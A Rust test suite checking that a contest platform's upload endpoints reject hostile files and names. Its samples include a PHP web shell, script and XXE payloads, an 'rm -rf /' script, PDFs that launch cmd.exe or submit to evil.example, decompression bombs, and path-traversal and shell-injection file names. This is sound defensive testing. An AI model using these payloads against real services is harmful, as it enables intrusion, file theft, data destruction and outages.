//! Hostile files at every call that takes files: nothing of them is stored, whatever they are called and whatever they promise.

use std::path::Path;

use testkit::memory::Growth;
use testkit::pdf;

use super::stage::{Stage, StageCopy};
use crate::helpers::{Answer, Person};
use crate::identity;
use crate::market::PNG;

const GIF: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
const PHP: &[u8] = b"<?php system($_GET['c']); ?>";
const PAGE: &[u8] = b"<!doctype html><script>alert(1)</script>";

fn pdf_with(part: &str) -> Vec<u8> {
    pdf::with(1, part, &[])
}

/// A header that promises so many pixels, and nothing behind it.
fn promise(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = PNG[..16].to_vec();
    bytes.extend_from_slice(&width.to_be_bytes());
    bytes.extend_from_slice(&height.to_be_bytes());
    bytes.extend_from_slice(&PNG[24..]);
    bytes
}

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut sum = flate2::Crc::new();
    sum.update(kind);
    sum.update(data);
    [&u32::try_from(data.len()).unwrap().to_be_bytes()[..], kind, data, &sum.sum().to_be_bytes()].concat()
}

/// A whole picture of 50,000 by 50,000 black pixels, one bit each: 312 MB in a third of one.
fn bomb() -> Vec<u8> {
    const SIDE: u32 = 50_000;
    let size = usize::try_from(u64::from(SIDE) * (u64::from(SIDE).div_ceil(8) + 1)).unwrap();
    let data = testkit::deflate::zeros(size);
    let header = [&SIDE.to_be_bytes()[..], &SIDE.to_be_bytes(), &[1, 0, 0, 0, 0]].concat();
    [&PNG[..8], &chunk(b"IHDR", &header), &chunk(b"IDAT", &data), &chunk(b"IEND", &[])].concat()
}

/// Name and content. None of them is what any of our calls asks for.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let utf16: Vec<u8> = "<html><script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let (plain, script) = (pdf::plain(1), "<< /S /JavaScript /JS (app.alert(1)) >>");
    vec![
        ("page.jpg", PAGE.to_vec()),
        ("page.pdf", b"<html><body onload=alert(1)>".to_vec()),
        ("page.txt", b"  \n<script>alert(1)</script>".to_vec()),
        ("bom.png", [b"\xef\xbb\xbf", PAGE].concat()),
        ("wide.jpg", [b"\xff\xfe", utf16.as_slice()].concat()),
        ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
        (
            "drawing.jpg",
            b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>".to_vec(),
        ),
        ("program.jpg", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec()),
        ("program.pdf", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()),
        ("program.png", b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec()),
        ("class.jpg", b"\xca\xfe\xba\xbe\0\0\x004\0\x1d".to_vec()),
        ("android.jpg", b"dex\n035\0".to_vec()),
        ("web.png", b"\0asm\x01\0\0\0".to_vec()),
        ("link.jpg", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0".to_vec()),
        ("script.jpg", b"#!/bin/sh\nrm -rf /".to_vec()),
        ("script.txt", b"\xef\xbb\xbf#!/bin/sh\nrm -rf /".to_vec()),
        ("php.jpg", PHP.to_vec()),
        ("jsp.png", b"<%@ page import=\"java.io.*\" %>".to_vec()),
        ("print.pdf", b"%!PS-Adobe-3.0\n(x) run".to_vec()),
        ("macro.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0".to_vec()),
        ("packed.jpg", b"Rar!\x1a\x07\x01\0".to_vec()),
        ("packed.png", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec()),
        (
            "archive.gif",
            [GIF, b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"].concat(),
        ),
        ("comment.gif", b"GIF89a/*\x01\0\x01\0\0\0\0;*/=1;alert(1)//<script>".to_vec()),
        ("php.png", [PNG, PHP].concat()),
        ("page.png", [PNG, PAGE].concat()),
        (
            "archive.png",
            [PNG, b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"].concat(),
        ),
        ("document.png", [PNG, &plain].concat()),
        ("php.jpeg", [b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", PHP].concat()),
        ("broken.png", PNG[..30].to_vec()),
        ("broken.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec()),
        ("broken.webp", b"RIFF\x10\0\0\0WEBPVP8 ".to_vec()),
        ("promise.png", promise(50_000, 50_000)),
        ("long.png", promise(60_000, 1)),
        ("js.pdf", pdf_with("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        ("hidden-js.pdf", pdf_with("/Extra << /S /J#61vaScript >>")),
        ("launch.pdf", pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("attached.pdf", pdf_with("/Names << /EmbeddedFiles 3 0 R >>")),
        ("comment.pdf", pdf::with_between("", &[script], b"% stream\n")),
        ("string.pdf", pdf::with(1, "/Title (stream)", &[script])),
        ("packed.pdf", pdf::packed("", &[script])),
        ("packed-open.pdf", pdf::packed(&format!("/OpenAction {script}"), &[])),
        ("submit.pdf", pdf::packed("/Extra << /S /SubmitForm /F (https://evil.example) >>", &[])),
        ("event.pdf", pdf_with("/AA << /O 1 >>")),
        ("locked.pdf", pdf::with_trailer("/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>")),
        ("unpacked.pdf", pdf::bomb(400 * 1024 * 1024)),
        ("page-in.pdf", pdf_with("<script>alert(1)</script>")),
        (
            "archive.pdf",
            [plain.as_slice(), b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"]
                .concat(),
        ),
        ("late.pdf", [PAGE, &plain].concat()),
        ("empty.jpg", Vec::new()),
        ("zero.jpg", vec![0; 64]),
    ]
}

/// Pictures with something behind them: identity documents are drawn again, and what hung on them is gone (`identity::identity_documents` looks).
const REDRAWN: [&str; 4] = ["php.png", "page.png", "archive.png", "document.png"];

/// Every call that takes a file, and somebody who may make it.
const CALLS: [&str; 8] = ["entry", "preview", "dispute", "image", "handover", "form", "brief", "kyc"];

async fn send(stage: &Stage, copy: &StageCopy, newcomer: &Person, call: &str, name: &str, bytes: &[u8]) -> Answer {
    let (owner, winner) = (&copy.people[1], &copy.people[3]);
    match call {
        "entry" => winner.upload("/api/upload/entry", name, bytes).await,
        "preview" => {
            let of = &stage.names["file.running"];
            winner.upload(&format!("/api/upload/preview?of={of}"), name, bytes).await
        }
        "dispute" => owner.upload("/api/upload/dispute", name, bytes).await,
        "image" => owner.upload("/api/profile/image", name, bytes).await,
        "handover" => {
            let contest = &stage.names["contest.awarded"];
            winner.upload(&format!("/api/contests/{contest}/handover/files"), name, bytes).await
        }
        "form" => owner.upload("/api/contests/draft/attachments", name, bytes).await,
        "brief" => {
            let contest = &stage.names["contest.running"];
            owner.upload(&format!("/api/contests/{contest}/attachments"), name, bytes).await
        }
        "kyc" => identity::send(newcomer, "selfie", name, bytes).await,
        other => panic!("{other}"),
    }
}

fn files(folder: &Path) -> usize {
    let Ok(entries) = std::fs::read_dir(folder) else { return 0 };
    entries.map(|entry| entry.unwrap().path()).map(|path| if path.is_dir() { files(&path) } else { 1 }).sum()
}

fn stored(copy: &StageCopy) -> (usize, i64) {
    let rows = "SELECT (SELECT count(*) FROM files) + (SELECT count(*) FROM kyc_documents) AS number";
    (files(&copy.app.stored_in()), copy.app.number(rows))
}

#[actix_web::test]
async fn none_of_forty_hostile_files_is_stored_by_any_call() {
    let stage = Stage::set().await;
    let copy = stage.copy().await;
    let newcomer = copy.app.newcomer("zara").await;
    let samples = samples();
    assert!(samples.len() >= 40, "{}", samples.len());
    let before = stored(&copy);
    let mut faults = Vec::new();
    for call in CALLS {
        for (name, bytes) in &samples {
            let answer = send(&stage, &copy, &newcomer, call, name, bytes).await;
            if call == "kyc" && answer.status == 201 && REDRAWN.contains(name) {
                assert_eq!(answer.body["mediaType"], "image/jpeg", "{name}");
            } else if answer.status != 422 {
                faults.push(format!("{call} {name}: {} {}", answer.status, answer.body));
            }
        }
        let drawn = if call == "kyc" { REDRAWN.len() } else { 0 };
        assert!(stored(&copy).0 <= before.0 + drawn, "{call}");
    }
    assert!(faults.is_empty(), "{}:\n{}", faults.len(), faults.join("\n"));
    for call in CALLS {
        let answer = send(&stage, &copy, &newcomer, call, "fine.png", PNG).await;
        assert!(matches!(answer.status, 200 | 201), "a picture passes: {call} {} {}", answer.status, answer.body);
    }
}

#[actix_web::test]
async fn pictures_that_explode_are_not_unpacked() {
    let stage = Stage::set().await;
    let copy = stage.copy().await;
    let newcomer = copy.app.newcomer("zara").await;
    let bomb = bomb();
    assert!(bomb.len() < 1_000_000, "{}", bomb.len());
    for call in CALLS {
        // Once for what a first call leaves behind.
        send(&stage, &copy, &newcomer, call, "promise.png", &promise(50_000, 50_000)).await.expect(422);
    }
    let (growth, kept) = (Growth::measure(), stored(&copy));
    for call in CALLS {
        send(&stage, &copy, &newcomer, call, "bomb.png", &bomb).await.expect(422);
    }
    let grown = growth.most();
    assert!(grown < 50_000_000, "{grown} bytes");
    assert_eq!(stored(&copy), kept);
}

#[actix_web::test]
async fn names_are_ours() {
    let stage = Stage::set().await;
    let copy = stage.copy().await;
    let newcomer = copy.app.newcomer("zara").await;
    let folder = copy.app.stored_in();
    let long = "x".repeat(300);
    let names = [
        "../../../../tmp/evil.png",
        "..\\..\\evil.png",
        "/etc/cron.d/evil.png",
        "C:\\evil.png",
        "a\u{202e}gnp.exe",
        "CON.png",
        ".htaccess",
        long.as_str(),
        "a;b|c`d`$(e).png",
        "<script>alert(1)</script>.png",
        "a%00b.png",
    ];
    for call in CALLS {
        for name in names {
            let before = files(&folder);
            let answer = send(&stage, &copy, &newcomer, call, name, PNG).await;
            if !matches!(answer.status, 200 | 201) {
                assert_eq!(answer.status, 422, "{call} {name}: {}", answer.body);
                assert_eq!(files(&folder), before, "{call} {name}");
            }
        }
    }
    assert_no_typed_name(&folder);
}

/// No path below a folder holds anything that somebody typed: ids, variants, and the folders of our own.
fn assert_no_typed_name(folder: &Path) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')), "{name}");
        assert!(
            !name.contains("evil") && !name.contains("htaccess") && name.len() < 80 && !name.starts_with('.'),
            "{name}"
        );
        if path.is_dir() {
            assert_no_typed_name(&path);
        }
    }
}
